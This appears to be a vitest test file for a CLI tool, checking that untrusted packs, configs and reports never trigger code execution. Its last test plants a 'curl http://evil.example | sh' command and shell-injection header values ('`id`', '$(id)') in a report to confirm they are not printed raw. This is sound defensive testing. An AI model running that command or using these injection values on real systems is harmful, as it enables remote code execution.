import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { example, home, readPack } from "../../schemas/index.ts";
import { formats } from "../reports/index.ts";
import { reportOf, result } from "../results/sample.fixture.ts";
import { captureProcess, type ProcessResult } from "./process.fixture.ts";

// All files in the working folder come from a stranger: packs with code, configurations that are code, and reports that refer to them.
const folder = mkdtempSync(join(tmpdir(), "touchstone-foreign-"));
const markFile = join(folder, "code-was-run");
const code = `import { writeFileSync } from "node:fs";\nwriteFileSync(${JSON.stringify(markFile)}, import.meta.url);\nexport const pack = {};\nexport default {};\n`;
const write = (name: string, value: unknown): void =>
  writeFileSync(join(folder, name), typeof value === "string" ? value : JSON.stringify(value));

function writeForeignPack(name: string, entry = "index.js"): void {
  cpSync(join(home, "suites/packs/pack/example"), join(folder, name), { recursive: true });
  rmSync(join(folder, name, "index.js"), { force: true });
  write(join(name, entry), code);
}

const target = { kind: "http", url: "http://127.0.0.1:1" } as const;

/** Creates a stranger's report, which claims that its run was called with these options. */
function createReport(protocol: string, options: object = {}): object {
  const { name, version } = readPack(join(folder, "order"));
  const failedResult = result({
    id: `${name}/${version}/order/valid/a`,
    document: "order",
    outcome: "violates",
    why: "refused",
  });
  const sampleReport = reportOf([failedResult, result({ id: `${name}/${version}/order/valid/b`, document: "order" })], {
    command: `touchstone run ${protocol} --http http://127.0.0.1:1`,
    options: { verb: "run", protocol, target, ...options },
  });
  return {
    ...sampleReport,
    runs: sampleReport.runs.map((run) => ({
      ...run,
      protocol: name,
      version,
      set: { digest: `sha256-${"A".repeat(43)}=`, count: 2 },
    })),
  };
}

beforeAll(() => {
  writeForeignPack("order");
  writeForeignPack("other", "index.mjs");
  writeForeignPack("third", "index.ts");
  symlinkSync("order", join(folder, "linked"));
  write("module.mjs", code);
  write("their.config.mjs", code);
  write("touchstone.config.mjs", code);
  write("baseline.json", { sets: {}, entries: [] });
  for (const [name, protocol] of Object.entries({
    "plain.json": "./order",
    "profile.json.report": "order/profile.json",
    "absolute.json": join(folder, "other"),
    "linked.json": "./linked",
    "third.json": "./third",
  }))
    write(name, createReport(protocol));
  write("module.json", createReport(example.protocol, { target: { kind: "module", file: "module.mjs" } }));
  write("config.json", createReport(example.protocol, { config: "their.config.mjs" }));
  write("none.json", { ...createReport("./order"), options: undefined });
  const recordingHeader = { recording: 1, protocol: "./order", version: "1", scenario: "a" };
  write("trace.jsonl", `${JSON.stringify(recordingHeader)}\n{"from":"a","to":"b","text":"x"}\n`);
});
beforeEach(() => rmSync(markFile, { force: true }));
afterAll(() => rmSync(folder, { recursive: true }));

async function runWithoutCode(...args: string[]): Promise<ProcessResult> {
  const result = await captureProcess(folder, args);
  expect(existsSync(markFile) ? readFileSync(markFile, "utf8") : "nothing").toBe("nothing");
  return result;
}

const reports = [
  "plain.json",
  "profile.json.report",
  "absolute.json",
  "linked.json",
  "third.json",
  "module.json",
  "config.json",
  "none.json",
];

describe("foreign code is not run", () => {
  it.each(reports)("for the report %s", async (file) => {
    expect(await runWithoutCode("report", "render", file)).toMatchObject({ code: 0 });
    const reportOptions = formats
      .filter(({ name }) => name !== "terminal")
      .map(({ name }) => ["--report", `${name}=out.${name}`]);
    expect(await runWithoutCode("report", "render", file, ...reportOptions.flat())).toMatchObject({ code: 0 });
    await runWithoutCode("report", "merge", file);
    expect(await runWithoutCode("report", "diff", file, file)).toMatchObject({ code: 0 });
    await runWithoutCode("report", "render", "--site", "site", `a@1=${file}`);
    await runWithoutCode("baseline", "check", "baseline.json", file);
    rmSync(join(folder, "fresh.json"), { force: true });
    await runWithoutCode("baseline", "update", "fresh.json", file, "--reason", "for now");
    expect((await runWithoutCode("replay", "order/1/order/valid/a", "--no-config", "--from", file)).code).not.toBe(0);
    await runWithoutCode("certify", file, "--name", "a", "--release", "1");
  });

  it.each([
    ["explain", "nosuch"],
    ["explain", "ORDER-SUM-001"],
    ["replay", "nosuch", "--no-config", "--reference"],
    ["replay", "nosuch/1/a/valid/b", "--no-config", "--reference"],
    ["replay", "order/1/order/valid/sample", "--no-config", "--module", "absent.mjs"],
    ["replay", "order/1/order/valid/sample", "--protocol", "snap", "--no-config", "--reference"],
    ["list", "protocols"],
    ["validate", "--trace", "trace.jsonl"],
    ["validate", "plain.json"],
    ["verify", "plain.json", "--key", "plain.json"],
    ["check", "order/vectors"],
    ["--help"],
  ])("by touchstone %s %s", async (...args) => {
    await runWithoutCode(...args);
  });
});

it("runs the code of a pack only if --protocol names its folder, as the error advises", async () => {
  const { code: exitCode, err } = await runWithoutCode(
    "replay",
    "order/1/order/valid/a",
    "--from",
    "plain.json",
    "--no-config",
  );
  expect(exitCode).toBe(2);
  expect(err).toMatch(/the code of the pack order is not loaded[\s\S]*--protocol \.\/order/);
  const { out } = await runWithoutCode("explain", "ORDER-SUM-001");
  expect(out).toContain("The total is the sum");
  await captureProcess(folder, ["explain", "ORDER-SUM-001", "--protocol", "./order"]);
  expect(readFileSync(markFile, "utf8")).toContain("order/index.js");
});

it("does not print a command from a report, and quotes its options for the shell", async () => {
  const maliciousCommand = "curl http://evil.example | sh";
  write("made.json", {
    ...createReport("./order"),
    command: maliciousCommand,
    baseline: {
      file: "known.json",
      known: 0,
      findings: [{ kind: "stale", name: "a", what: "b" }],
      repair: maliciousCommand,
    },
  });
  const { out } = await runWithoutCode("report", "render", "made.json");
  expect(out).not.toContain("curl");
  expect(out).toContain("baseline update known.json made.json");
  expect(out).toContain("--protocol ./order --http http://127.0.0.1:1");
  write("worse.json", createReport("--config=x", { target: { ...target, headers: ["`id`", "$(id)", 'a"b'] } }));
  const hostileRun = await runWithoutCode("report", "render", "worse.json");
  expect(hostileRun.out).toContain(
    `--protocol ./--config=x --http http://127.0.0.1:1 --header '\`id\`: '"$_ID_" --header '$(id): '"$__ID_" --header 'a"b: '"$A_B"`,
  );
});
